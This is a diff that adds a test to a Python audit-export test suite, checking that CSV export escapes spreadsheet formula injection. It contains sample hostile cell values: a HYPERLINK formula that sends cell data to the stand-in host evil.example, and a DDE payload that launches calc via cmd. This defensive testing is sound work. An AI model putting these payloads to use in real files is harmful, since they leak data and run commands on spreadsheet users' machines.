@@ -288,6 +288,21 @@ def test_events_export_has_every_entry_with_its_texts(log):
     assert len(table) == 12 and json.loads(table[9]["details"])["suggested"] == "We are looking into it."
 
 
+def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path):
+    from test_audit_support import approve_and_send, ingest
+
+    store = Store(tmp_path / "sw.db")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
+    [item_id] = ingest(store, [make_item(0, text=hostile)], T0)
+    approve_and_send(store, item_id, final="+1 thanks", suggested="@SUM(1+1)*cmd|' /C calc'!A0", approver=("U01", "=cmd"),
+                     approved_at=T0 + timedelta(minutes=1), sent_at=T0 + timedelta(minutes=2), platform_id="1")
+    row = next(csv.DictReader(io.StringIO(export(store.path))))
+    assert row["post_text"] == "'" + hostile
+    assert (row["final_text"], row["suggested_text"], row["approver_name"]) == ("'+1 thanks", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=cmd")
+    as_json = json.loads(export(store.path, "--format", "jsonl"))
+    assert as_json["post_text"] == hostile  # JSONL is verbatim
+
+
 def test_bad_dates_are_explained(log):
     result = CliRunner().invoke(audit_group, ["export", "--database", str(log), "--since", "last tuesday"])
     assert result.exit_code == 2 and "2026-01-31" in result.output
